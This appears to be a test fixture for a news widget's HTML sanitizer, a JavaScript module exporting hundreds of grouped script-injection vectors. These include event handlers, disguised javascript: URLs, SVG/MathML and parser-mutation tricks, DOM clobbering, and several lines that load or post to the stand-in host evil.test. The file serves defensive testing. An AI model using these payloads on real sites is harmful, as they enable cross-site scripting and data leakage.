// A corpus of script-injection vectors, grouped by the well-known classes they
// come from. security.test.mjs puts each one in every field of an article (and
// of ticker items) in every input format, and asserts that nothing runs and
// nothing dangerous is left in the widget's DOM.
//
// Every vector that would run script calls alert/confirm/prompt/print, which
// the test page counts; those that would leak try to load from evil.test.

// Script elements, and ways of closing the host's JSON <script> early.
const scriptTags = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script src=//evil.test/x.js></script>",
  "<script src=data:,alert(1)></script>",
  "<script>/*</script><script>*/alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script type=module>import('//evil.test/m.js')</script>",
  "<script>document.write('<img src=x onerror=alert(1)>')</script>",
  "</script><script>alert(1)</script>",
  "</SCRIPT ><img src=x onerror=alert(1)>",
  "</script\t><svg onload=alert(1)>",
  "<!--<script>alert(1)</script>-->",
  "<\\/script><script>alert(1)<\\/script>",
  "</script ><script >alert(1)</script >",
  "<script>/* \u2028 */alert(1)</script>",
];

// Event-handler attributes on every kind of element.
const eventHandlers = [
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x ONERROR=alert(1)>",
  "<img src=x onerror=\"alert(1)\">",
  "<img src=x onerror='alert(1)'>",
  "<img src=x onerror=`alert(1)`>",
  "<img src=x:alert(1) onerror=eval(src)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\n=alert(1)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
  "<img src=x oNeRrOr=alert(1)>",
  "<img src=\"x\" alt=\"\" onload=alert(1) onerror=alert(2)>",
  "<image src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<p onmouseover=alert(1)>hover</p>",
  "<a href=\"#\" onclick=\"alert(1)\">click</a>",
  "<div onpointerenter=alert(1)>x</div>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<keygen autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)><summary>s</summary></details>",
  "<marquee onstart=alert(1)>m</marquee>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<iframe onload=alert(1)></iframe>",
  "<object data=x onerror=alert(1)></object>",
  "<x contenteditable onfocus=alert(1) autofocus>x</x>",
  "<span tabindex=0 autofocus onfocusin=alert(1)>x</span>",
  "<p style=\"animation-name:x\" onanimationstart=alert(1)>x</p>",
  "<p style=\"transition:color 1s\" ontransitionend=alert(1)>x</p>",
  "<div popover id=p onbeforetoggle=alert(1)>x</div>",
  "<frameset onload=alert(1)>",
  "<table background=x onerror=alert(1)><tr><td>t</td></tr></table>",
  "<td onmouseover=alert(1)>cell</td>",
  "<li onclick=alert(1)>item</li>",
  "<blockquote oncopy=alert(1)>q</blockquote>",
];

// javascript: and other refused schemes in links and images, disguised.
const urlAttributes = [
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=\" javascript:alert(1)\">x</a>",
  "<a href=\"\tjavascript:alert(1)\">x</a>",
  "<a href=\"java\tscript:alert(1)\">x</a>",
  "<a href=\"java\nscript:alert(1)\">x</a>",
  "<a href=\"java\rscript:alert(1)\">x</a>",
  "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
  "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
  "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
  "<a href=\"javascript&colon;alert(1)\">x</a>",
  "<a href=\"java&Tab;script:alert(1)\">x</a>",
  "<a href=\"java&NewLine;script:alert(1)\">x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
  "<a href=\"&#14;javascript:alert(1)\">x</a>",
  "<a href=\"\u0001javascript:alert(1)\">x</a>",
  "<a href=\"javascript\u0000:alert(1)\">x</a>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=`javascript:alert(1)`>x</a>",
  "<a href=\"javascript://%0Aalert(1)\">x</a>",
  "<a href=\"javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"livescript:alert(1)\">x</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
  "<a href=\"blob:https://evil.test/00000000-0000-0000-0000-000000000000\">x</a>",
  "<a href=\"file:///etc/passwd\">x</a>",
  "<img src=\"javascript:alert(1)\">",
  "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
  "<img src=\"  JAVASCRIPT:alert(1)\">",
  "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
  "<q cite=\"vbscript:x\">q</q>",
  "<a href=\"https://ok.test/\" ping=\"https://evil.test/ping\">ping</a>",
  "<a href=\"https://ok.test/\" target=\"_top\" rel=\"opener\">opener</a>",
  "<a href=\"//evil.test/\" download>d</a>",
  "<img src=x srcset=\"javascript:alert(1) 1x, //evil.test/i.png 2x\">",
];

// Bare URLs, as they arrive in url, image and link fields.
const bareUrls = [
  "javascript:alert(1)",
  "JAVASCRIPT:alert(1)",
  " javascript:alert(1)",
  "\u0000javascript:alert(1)",
  "\u001fjavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "jav&#x09;ascript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6a;avascript&#x3a;alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "blob:https://evil.test/uuid",
  "file:///c:/windows/win.ini",
  "ｊａｖａｓｃｒｉｐｔ:alert(1)",
  "\u00a0javascript:alert(1)",
  "%6Aavascript:alert(1)",
];

// SVG: handlers, script, links and animation that rewrite attributes.
const svg = [
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
  "<svg><a href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
  "<svg><a><animate attributeName=href to=javascript:alert(1) begin=0 /><text>x</text></a></svg>",
  "<svg><set attributeName=onload to=alert(1) /></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\"></use></svg>",
  "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
  "<svg><style>@import '//evil.test/x.css';</style></svg>",
  "<svg><image href=x onerror=alert(1) /></svg>",
  "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
  "<svg><title><p>breakout</title><img src=x onerror=alert(1)></svg>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
];

// MathML: namespace confusion and the integration points.
const mathml = [
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
  "<math href=\"javascript:alert(1)\">click</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
  "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
];

// Parser mutation: markup that re-parses differently once serialised.
const mutation = [
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<noscript><style></noscript><img src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<template><img src=x onerror=alert(1)></template>",
  "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
  "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
  "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
  "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
  "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
  "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
  "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
  "<a title=\"</a><img src=x onerror=alert(1)>\">x</a>",
  "<p>a<marquee><p>b<img src=x onerror=alert(1)></p></marquee></p>",
  "<table><td><a><table><td><a onclick=alert(1)>x</a></td></table></a></td></table>",
  "<div id=\"1\"><form id=\"foobar\"></div><button form=\"foobar\" formaction=\"javascript:alert(1)\">X</button>",
  "<img src=\"x` `<script>alert(1)</script>\"` `>",
  "<a href=\"\"\"><img src=x onerror=alert(1)>\">",
  "<scri\u0000pt>alert(1)</scri\u0000pt>",
];

// Frames with inline documents.
const frames = [
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<iframe srcdoc=\"&lt;img src=x onerror=parent.alert(1)&gt;\"></iframe>",
  "<iframe src=\"javascript:parent.alert(1)\"></iframe>",
  "<iframe src=\"data:text/html,<script>parent.alert(1)</script>\"></iframe>",
  "<frameset><frame src=\"javascript:parent.alert(1)\"></frameset>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
  "<applet code=\"x\" codebase=\"javascript:alert(1)\"></applet>",
  "<portal src=\"//evil.test/\"></portal>",
];

// Forms and their URL-valued attributes.
const forms = [
  "<form action=\"javascript:alert(1)\"><input type=submit></form>",
  "<form><button formaction=\"javascript:alert(1)\">go</button></form>",
  "<button formaction=\"javascript:alert(1)\">go</button>",
  "<input type=image src=x onerror=alert(1)>",
  "<input type=image formaction=\"javascript:alert(1)\" src=x>",
  "<isindex action=\"javascript:alert(1)\" type=image>",
  "<form id=test></form><button form=test formaction=\"javascript:alert(1)\">X</button>",
  "<form action=\"//evil.test/steal\" method=post><input name=q value=x></form>",
];

// Attributes that point a whole document somewhere else.
const documentLevel = [
  "<base href=\"javascript:alert(1)//\">",
  "<base href=\"//evil.test/\"><a href=\"x\">relative</a>",
  "<base target=\"_top\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<meta http-equiv=\"refresh\" content=\"0; url=//evil.test/\">",
  "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
  "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<link rel=\"stylesheet\" href=\"//evil.test/x.css\">",
  "<link rel=\"import\" href=\"//evil.test/x.html\">",
  "<link rel=\"prefetch\" href=\"//evil.test/x\">",
];

// CSS: style attributes and elements, url() and the old script-in-CSS forms.
const css = [
  "<p style=\"background:url(javascript:alert(1))\">x</p>",
  "<p style=\"background-image:url(//evil.test/x.png)\">x</p>",
  "<div style=\"width:expression(alert(1))\">x</div>",
  "<div style=\"behavior:url(x.htc)\">x</div>",
  "<div style=\"-moz-binding:url(//evil.test/x.xml#x)\">x</div>",
  "<div style=\"x:\\65 xpression(alert(1))\">x</div>",
  "<p style=\"background:url(&#x6A;avascript:alert(1))\">x</p>",
  "<style>@import '//evil.test/x.css';</style>",
  "<style>body{background:url(//evil.test/x.png)}</style>",
  "<style>*{x:expression(alert(1))}</style>",
  "<div style=\"position:fixed;inset:0;z-index:2147483647;background:red\">overlay</div>",
  "<p style=\"content:url(//evil.test/x.png)\">x</p>",
];

// Names and ids that would shadow properties of document or window.
const clobbering = [
  "<img name=\"getElementById\" src=x>",
  "<form id=\"location\"><input name=\"href\" value=\"javascript:alert(1)\"></form>",
  "<a id=\"defaultView\" href=\"javascript:alert(1)\">x</a>",
  "<img id=\"nr-headline\" src=x>",
  "<p id=\"nr-label\">fake label</p>",
  "<a id=\"x\"></a><a id=\"x\" name=\"y\" href=\"javascript:alert(1)\">x</a>",
  "<img name=\"body\" src=x><img name=\"cookie\" src=x>",
  "<form name=\"trustedTypes\"></form>",
  "<embed name=\"customElements\">",
  "<iframe name=\"newsreel\"></iframe>",
  "<p class=\"pick\" data-id=\"n1\" part=\"headline\">fake pick</p>",
];

// Plain-text fields: injections that only matter where text becomes markup or code.
const textInjection = [
  "\"><img src=x onerror=alert(1)>",
  "'><svg onload=alert(1)>",
  "'-alert(1)-'",
  "\";alert(1);//",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= alert(1) %>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "\u202eevil\u202c text",
  "line\u2028sep\u2029para",
  "\ud800 lone high surrogate",
  "\udc00 lone low surrogate",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
];

export const VECTORS = [
  ...scriptTags,
  ...eventHandlers,
  ...urlAttributes,
  ...bareUrls,
  ...svg,
  ...mathml,
  ...mutation,
  ...frames,
  ...forms,
  ...documentLevel,
  ...css,
  ...clobbering,
  ...textInjection,
];
